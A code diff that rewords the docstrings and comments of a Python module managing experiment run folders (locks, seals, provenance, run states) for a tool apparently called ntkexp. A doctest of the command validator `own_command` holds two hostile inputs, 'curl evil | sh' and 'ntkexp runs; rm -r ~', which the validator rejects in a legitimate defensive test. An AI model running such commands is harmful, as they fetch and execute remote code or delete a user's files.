@@ -1,7 +1,7 @@
-"""A run folder: one process at a time writes it, and `DONE.json`, written last, marks it as finished.
+"""A run folder: only one process at a time writes it, and DONE.json marks it as finished.
 
-Each folder records the program and the command that made it. Repeating the command in the same folder repeats
-the experiment.
+DONE.json is written last. Each folder records the version of the program and the command that
+created it. Repeating the command in the same working folder repeats the experiment.
 
 >>> command("train", ["data.path=my file.csv"])
 "ntkexp train 'data.path=my file.csv'"
@@ -50,15 +50,15 @@ from ntkexp.text import several
 
 # --- The program.
 #
-# `results_version` counts the changes of the program that can change a result. It is part of a run's identity, so a run
-# of an earlier program never counts as a run of this one.
+# `results_version` is raised by each change of the program that can change a result. It is part of
+# the identity of a run, so a run of another version is never mistaken for a run of this version.
 
 
 results_version = 14
 
 
 def package_version() -> str:
-    """Return the version of the installed package. This is slow."""
+    """Return the version of the installed package. The first call is slow."""
     from importlib.metadata import PackageNotFoundError, version  # noqa: PLC0415  a third of the start-up time
 
     try:
@@ -75,13 +75,13 @@ COMMANDS = frozenset({
     *("train", "sweep", "claims", "config", "resume", "report", "explain", "attribute", "validate", "compare", "runs"),
     "kernel",
 })  # fmt: skip
-"""The names of the program's commands."""
+"""The names of the subcommands of `ntkexp`."""
 
 
 def own_command(text: str) -> str:
-    """Return the command if it is a single command of this program, else an empty string.
+    """Return `text` if it is a single command of this program, else an empty string.
 
-    Files may come from anywhere, and users copy commands into a shell.
+    The text may come from an untrusted file, and users copy commands into a shell.
 
     >>> own_command("ntkexp train model.width=8"), own_command("curl evil | sh"), own_command("ntkexp runs; rm -r ~")
     ('ntkexp train model.width=8', '', '')
@@ -94,20 +94,25 @@ def own_command(text: str) -> str:
     return text if is_own and text.isprintable() and shlex.join(words) == text else ""
 
 
-# --- provenance.json: the program and the command that made a run, and the machine.
+# --- provenance.json: the version of the program, the command and the machine of a run.
 #
-# Another `results_version` may have other numbers or names. So only the same version reads a run.
+# Between versions with different `results_version`, numbers and names of files may differ. So a run
+# is only read by the version that wrote it.
 
 
 PROVENANCE, PROGRESS = "provenance.json", "progress.json"
 
 
 class OtherVersion(Mistake):
-    """A run of another version of the program."""
+    """Raised if a run was written by another version of the program."""
 
 
 def refuse_other_version(run: Path) -> None:
-    """Raise if another version made the run. A run without provenance is judged by its other files."""
+    """Raise if another version of the program wrote the run.
+
+    If provenance.json is missing or damaged, do nothing, because later checks of other files
+    will raise.
+    """
     try:
         made = RunFolder(run).provenance
     except Mistake:
@@ -121,7 +126,7 @@ def refuse_other_version(run: Path) -> None:
 
 
 def version_of(package: object, results: object) -> str:
-    """Spell a version in words.
+    """Return the description of a version.
 
     >>> version_of("0.1.0", 4)
     'ntkexp 0.1.0 with results_version 4'
@@ -131,34 +136,40 @@ def version_of(package: object, results: object) -> str:
 
 # --- The files that mark the state of a run folder.
 #
-#     .lock        held by the process that writes the folder
-#     BEGUN.json   {"identity": …, "seals": {file: [bytes, seal]}} of the files that are written before the first step.
-#                  Before pictures are written, their seals are added as "pictures". DONE.json replaces this file
-#     DONE.json    {"identity": …, "outcome": …, …, "sizes": {file or folder: bytes}, "seals": …}. `sizes` lists the
-#                  files that have the same bytes in every repetition of the run
+#     .lock        locked by the process that writes the folder
+#     BEGUN.json   {"identity": …, "seals": {file: [bytes, seal]}}: seals of the files that are
+#                  written before the first step. Before pictures are written, their seals are added
+#                  as "pictures". After DONE.json is written, BEGUN.json is removed
+#     DONE.json    {"identity": …, "outcome": …, …, "sizes": {file or folder: bytes}, "seals": …}.
+#                  "sizes" lists the files that are byte-identical in each repetition of the run
 #
-# Both files seal the files that they list, and hold the identity of the experiment, which covers its input files and
-# the `results_version`. Every other sealed file is sealed for its name and this identity.
+# Both files contain the identity of the experiment, a digest that covers its settings, input files
+# and the `results_version`. Each other JSON file with a seal is sealed for its name and this
+# identity.
 #
 # The state of a folder is
 #
-#     done          if every file matches its seal
+#     done          if DONE.json exists and each file matches its seal
 #     running       else if the lock is held
 #     damaged       else if DONE.json exists
 #     interrupted   else if a checkpoint or a trace exists, from which the run can be resumed
-#     dead          else
+#     dead          else, if the folder exists
+#     absent        else
 #
-# `state` and `defect` read files of up to a megabyte and only measure larger ones. `whole` reads all files, and `check`
-# reads a file before it is used.
+# `state` and `defect` check the seals of files of up to a megabyte, and the sizes of larger files.
+# `whole` checks the seals of all files, and `check` checks the seals of the named files.
 #
-# After a kill, the next attempt takes the lock, and depends on the moment of the kill:
+# After a kill, the next attempt takes the lock. It depends on the moment of the kill:
 #
-#     before the first checkpoint   the folder is dead: `clear` empties it, and the run starts again
-#     later, before DONE.json       it is interrupted: `forget` keeps the files that the checkpoint lists, metrics.csv
-#                                   is cut back to the checkpoint, and later steps are repeated
-#     after DONE.json               it is finished: a remaining checkpoint is removed
-#     during `clear`                pictures go first, then DONE.json, and config.json last. So the folder is damaged or
-#                                   dead, and the next `clear` removes the rest
+#     before the first checkpoint   The folder is dead. `clear` empties it, and the run starts
+#                                   again.
+#     later, before DONE.json       The folder is interrupted. `forget` keeps only the files that
+#                                   the checkpoint lists, metrics.csv is cut back to the
+#                                   checkpoint, and later steps are repeated.
+#     after DONE.json               The run is finished. A remaining checkpoint is removed.
+#     during `clear`                `clear` removes pictures first, then DONE.json, and config.json
+#                                   last. So the folder is damaged or dead, and the next `clear`
+#                                   removes the rest.
 
 
 LOCK, CONFIG, OVERRIDES, BEGUN, DONE = (
@@ -178,18 +189,17 @@ RESULTS = (
     "kernels.zarr",
     "contributions.zarr",
 )
-"""The files of every finished folder, with the same bytes each time at the same number of threads."""
+"""The files of each finished run, byte-identical in repetitions with the same number of threads."""
 
 CHECKPOINT, TRACE = "checkpoint.pt", "trace"
-"""The files that allow to resume a run and a followed loop."""
+"""The checkpoint file of a run, and the trace folder of a followed loop. Both allow resuming."""
 
 REDO = "resume it to run it again"
-MAX_READ_FOR_STATE = (
-    1 << 20
-)  # bytes; larger files are only measured when the state of a folder is determined
+# bytes; for larger files, only the size is checked when the state of a folder is determined
+MAX_READ_FOR_STATE = 1 << 20
 
 TRACE_IDENTITY, START_WEIGHTS = "trace_identity", "start_weights"
-"""Keys of the config.json of a trace: a random number drawn at its start, and the digest of its start weights."""
+"""Keys in config.json of a followed loop: a random number, and a digest of the initial weights."""
 
 CIRCUMSTANCES = (
     "device",
@@ -199,13 +209,16 @@ CIRCUMSTANCES = (
     TRACE_IDENTITY,
     START_WEIGHTS,
 )
-"""Keys of config.json that do not change results. Runs that differ only in them have the same identity."""
+"""Keys of config.json that do not affect results, and are not part of the identity of a run."""
 
 NAMED = re.compile(r"-w\d+-s\d+-([0-9a-f]{12})")
-"""The end of a run's default name: the beginning of its identity."""
+"""A pattern for the end of a run's default name, which is the beginning of its identity."""
 
 EVENTS = r"events\.out\.tfevents\.(\d{16,}|[0-9a-f]{12}|run)"
-"""The names of this package's TensorBoard files. Other writers put the name of the machine there."""
+"""A pattern for this package's TensorBoard files.
+
+It does not match the files of other writers, whose names contain the name of the machine.
+"""
 
 OURS = re.compile(
     r"\.lock|overrides\.txt|error\.txt|data\.npz|weights\.pt|checkpoint\.pt|trajectory\.bin"
@@ -217,21 +230,22 @@ OURS = re.compile(
     r"|trace/(rank-\d+/)?(\.lock|(start|ended|asked|sweep)\.bin|(rows|steps)\.log)|trace/weights/\d+\.bin"
     rf"|(.*/)?{HALF_WRITTEN}"
 )
-"""The files that a run writes under fixed names, relative to its folder.
+"""A pattern for the relative paths of all files that a run writes, except for pictures.
 
-Pictures have no fixed names. DONE.json lists them, or BEGUN.json until that is written.
+Pictures have no fixed names. They are listed in DONE.json, or in BEGUN.json before DONE.json
+exists.
 """
 
 PICTURE_FILE = re.compile(r"plots/[^/]+\.(svg|png|csv)")
 
 SOMETIMES = ("retraced.csv",)
-"""Files that some runs have. If DONE.json does not list such a file, it belongs to another run."""
+"""Files that only some runs have. If DONE.json does not list such a file, it must not exist."""
 
 State: TypeAlias = Literal["done", "running", "damaged", "interrupted", "dead", "absent"]
 
 
 class Held(Mistake):
-    """A run that another process is writing."""
+    """Raised if another process is writing the run."""
 
 
 @dataclass(frozen=True)
@@ -242,11 +256,11 @@ class RunFolder:
 
     @property
     def state(self) -> State:
-        """The state of the folder. A process that holds the lock itself must use `done` instead."""
+        """The state of the folder. A process that itself holds the lock must use `done` instead."""
         return self.state_by(self.defect)
 
     def state_by(self, defect: str | None) -> State:
-        """Return the state, given the folder's `defect`, which is slow to find."""
+        """Return the state, given the value of the property `defect`, which is slow to compute."""
         if defect is None:
             return "done"
         if is_held(self.path / LOCK):
@@ -263,18 +277,19 @@ class RunFolder:
 
     @property
     def whole(self) -> bool:
-        """True if the run is finished and every byte of its files is undamaged."""
+        """True if the run is finished and all its files match their seals."""
         return self.find_defect() is None
 
     @property
     def defect(self) -> str | None:
-        """The reason why the run is not `done`, in words that follow the folder's name; None if it is done."""
+        """The reason why the run is not `done`, as a sentence without its subject; None if done."""
         return self.find_defect(MAX_READ_FOR_STATE)
 
     def find_defect(self, largest: float = inf, *, surplus: bool = True) -> str | None:
-        """Return a defect of the run, reading files of up to `largest` bytes.
+        """Return a defect of the run as a sentence without its subject, or None.
 
-        `surplus` also finds files in stores that should not be there, by listing all files.
+        For files larger than `largest` bytes, only the size is checked. With `surplus`, also check
+        the total size of each store, so that additional files in it are found.
         """
         if not self.path.is_dir():
             return "is not a folder" if self.path.exists() else "does not exist"
@@ -302,7 +317,7 @@ class RunFolder:
 
     @property
     def seal_file(self) -> str | None:
-        """The file that holds the seals of other files, or None."""
+        """The name of the file with the seals of other files: DONE.json, BEGUN.json or None."""
         return next((name for name in (DONE, BEGUN) if (self.path / name).is_file()), None)
 
     @property
@@ -338,7 +353,7 @@ class RunFolder:
 
     @property
     def config(self) -> dict[str, Any]:
-        """The content of config.json, with control characters replaced by their codes."""
+        """The content of config.json, with control characters in texts escaped."""
         from ntkexp.records.schema import checked_config  # noqa: PLC0415  pydantic is slow to import
 
         return checked_config(self.read_json(CONFIG), self.path / CONFIG)
@@ -350,18 +365,18 @@ class RunFolder:
 
     @property
     def misnamed(self) -> str | None:
-        """A sentence if the folder has the default name of another run, else None."""
+        """An error message if the folder has the default name of another run, else None."""
         return self.misnamed_by(self.identity)
 
     def misnamed_by(self, identity: str) -> str | None:
-        """Return a sentence if the folder's name belongs to another identity, else None."""
+        """Return an error message if the folder's name belongs to another identity, else None."""
         named = NAMED.search(os.path.basename(os.path.abspath(self.path)))
         if named is None or not identity or identity.startswith(named[1]):
             return None
         return f"has the name of another run than the one in it, …-{identity[:12]}; give it that name, or move it away"
 
     def broken(self, *names: str) -> list[str]:
-        """Return the damaged ones of these files, and of the files in these folders."""
+        """Return the damaged files among the named files, and in the named folders."""
         try:
             seals: Seals = self.sealed_facts["seals"]
         except Mistake:
@@ -375,7 +390,7 @@ class RunFolder:
         return damaged
 
     def check(self, *names: str) -> None:
-        """Raise if one of these files, or a file in these folders, is damaged."""
+        """Raise if a named file, or a file in a named folder, is damaged."""
         wrong = self.broken(*names)
         if wrong:
             raise Damaged(f"{self.path} is damaged: {several(wrong)} not as it was written; {REDO}")
@@ -384,7 +399,10 @@ class RunFolder:
 
     @contextmanager
     def claim(self) -> Iterator[None]:
-        """Hold the lock of this folder, so that no other process writes it. Create the folder if it is missing."""
+        """Hold the lock of the folder inside the `with` block. Create the folder if it is missing.
+
+        Raise `Held` if another process holds the lock.
+        """
         try:
             make_folder(self.path)
             descriptor = acquire(self.path / LOCK)
@@ -408,9 +426,10 @@ class RunFolder:
         self.write(name, to_text(value))
 
     def sealed_for(self, name: str) -> str:
-        """Return the place text of the seal of a file that BEGUN.json and DONE.json do not seal.
+        """Return the text that identifies a file in its seal: its name and the run's identity.
 
-        These two are sealed for their names only, because they contain the identity.
+        BEGUN.json and DONE.json are identified by their names only, because they contain the
+        identity.
         """
         return name if name in (BEGUN, DONE) else f"{name} of {self.identity}"
 
@@ -431,7 +450,11 @@ class RunFolder:
         self.write_sealed(BEGUN, record)
 
     def finish(self, names: Iterable[str], *others: str, identity: str = "", **facts: Json) -> None:
-        """Write DONE.json: the sizes of the reproducible files `names`, the seals of these and `others`, and facts."""
+        """Write DONE.json, which marks the run as finished.
+
+        It contains the sizes of the reproducible files `names`, the seals of `names` and `others`,
+        and `facts`.
+        """
         names = list(names)
         sizes = {name: size_of(self.path / name) for name in names}
         missing = [name for name, size in sizes.items() if size is None]
@@ -446,9 +469,10 @@ class RunFolder:
         self.write_sealed(DONE, record)
 
     def write_pictures(self, pictures: Mapping[str, str]) -> list[str]:
-        """Write pictures into `plots`, and return their paths in the folder.
+        """Write pictures into the folder `plots`, and return their relative paths.
 
-        BEGUN.json lists them first, so that the pictures of a killed process are recognised as ours.
+        First add their seals to BEGUN.json, so that pictures are recognised as files of the run
+        even if the process is killed.
         """
         contents = {f"plots/{name}": content.encode() for name, content in pictures.items()}
         marks = {place: (len(content), seal(content).hex()) for place, content in contents.items()}
@@ -461,7 +485,7 @@ class RunFolder:
 
     @property
     def pictures(self) -> Seals:
-        """The seals of the pictures that BEGUN.json or DONE.json lists."""
+        """The seals of the pictures that BEGUN.json or DONE.json list."""
         listed = dict[str, tuple[int, str]]()
         for name in (BEGUN, DONE):
             with suppress(Mistake):
@@ -472,7 +496,10 @@ class RunFolder:
         return listed
 
     def reopen(self) -> None:
-        """Remove the pictures and DONE.json, because the run will be finished again."""
+        """Remove the pictures and DONE.json, before the run is finished again.
+
+        Raise if a picture has changed since it was written.
+        """
         pictures = self.pictures
         changed = [name for name in broken(self.path, pictures) if (self.path / name).exists()]
         if changed:
@@ -484,7 +511,7 @@ class RunFolder:
 
     @property
     def is_ours(self) -> bool:
-        """True if only this package can have written one of the files."""
+        """True if DONE.json, BEGUN.json or config.json was written by this package."""
         for name in (DONE, BEGUN, CONFIG):
             with suppress(Mistake):
                 record = self.read_json(name)
@@ -497,7 +524,7 @@ class RunFolder:
         return False
 
     def refuse_strangers(self) -> None:
-        """Raise if a file was not written by a run, or if a picture has changed since."""
+        """Raise if the folder contains a file that no run writes, or a picture that has changed."""
         pictures = self.pictures
         changed = set(broken(self.path, pictures))
         refuse_strangers(
@@ -506,14 +533,14 @@ class RunFolder:
         )
 
     def forget(self, names: Iterable[str]) -> None:
-        """Remove all files but the lock and these ones. The resumed run writes later files again."""
+        """Remove all files except the lock and `names`. The resumed run writes them again."""
         self.refuse_strangers()
         kept = {LOCK, *names}
         remove_files(self.path, [name for name in files_in(self.path) if name not in kept])
         remove_empty_folders(self.path)
 
     def note_error(self, text: str) -> None:
-        """Write the reason of a failure. If the run has not begun, remove the folder instead."""
+        """Write error.txt. If the run has not begun, remove the folder instead."""
         with suppress(OSError):
             if (self.path / CONFIG).is_file():
                 self.write("error.txt", text)
@@ -522,12 +549,13 @@ class RunFolder:
                 self.path.rmdir()
 
     def clear(self) -> None:
-        """Remove all files but the lock: pictures while a file lists them, then DONE.json, and config.json last.
+        """Remove all files except the lock. Raise if the folder contains other files than a run's.
 
-        After a kill in between, the run is damaged or dead.
+        Pictures are removed first, while a file lists them, then DONE.json, and config.json last.
+        After a kill during the removal, the run is damaged or dead.
         """
         entries = {entry.name for entry in self.path.iterdir() if entry.name != LOCK}
-        # a run without config.json still has DONE.json or BEGUN.json
+        # if config.json is missing, a run still has DONE.json or BEGUN.json
         is_run = not entries.isdisjoint((CONFIG, DONE, BEGUN))
         if not is_run and not all(name.endswith(PARTIAL) for name in entries):
             raise NoPlace(f"{self.path} holds files that no run wrote; choose another place")
@@ -543,5 +571,5 @@ class RunFolder:
 
 
 def is_run_folder(path: Path) -> bool:
-    """Return whether this is a run folder, in any state."""
+    """Return True if this is a run folder, in any state."""
     return (path / CONFIG).is_file() and any((path / name).exists() for name in (LOCK, DONE))
